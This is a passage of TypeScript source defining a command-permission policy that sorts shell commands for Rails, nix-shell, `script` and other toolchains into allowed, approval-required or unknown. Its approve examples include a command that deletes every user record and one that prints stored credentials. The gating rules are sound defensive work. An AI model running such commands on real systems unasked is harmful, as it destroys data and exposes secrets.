      detail: "evaluates code or opens a database session the policy cannot see",
      anyOption: true,
    },
  },
  examples: {
    allow: ["rails test", "bin/rails test test/models/user_test.rb", "rails routes", "rails g model User"],
    approve: [
      "bin/rails db:migrate",
      "bin/rails console",
      "rails credentials:show",
      "rails runner 'User.delete_all'",
    ],
  },
};

export const toolchainSpecs: readonly ToolSpec[] = [
  toolchain,
  rails,
  deno,
  make,
  node,
  python,
  interpreters,
  npm,
  pnpm,
  yarn,
  runners,
  pip,
  pythonTools,
  twine,
  cargo,
  go,
  jvm,
  bundler,
  gem,
  dotnet,
  nx,
  releases,
  rustup,
  pyModules,
  {
    // nix-shell evaluates shell.nix (its shellHook runs anything) before `--run`.
    names: "nix-shell",
    class: "unknown",
    detail: "starts a shell the policy cannot see into",
    anyOption: true,
    examples: { allow: [], approve: ["nix-shell", "nix-shell --run 'npm test'"] },
  },
  {
    names: "script",
    options: `-c|--command=shell -q|--quiet -a|--append -f|--flush -e|--return -t|--timing= -T|--log-timing=write
      -I|--log-in|-O|--log-out|-B|--log-io=write -E|--echo= -m|--logging-format=`,
    operands: "write",
    logic: (call) => {
      if (!call.options.some((o) => o.name === "-c"))
        call.find("unknown", "script starts an interactive shell");
    },
    examples: {
      allow: ["script -qc 'npm test' /dev/null"],
      approve: ["script", "script -qc 'git push' /dev/null"],
    },
  },
];
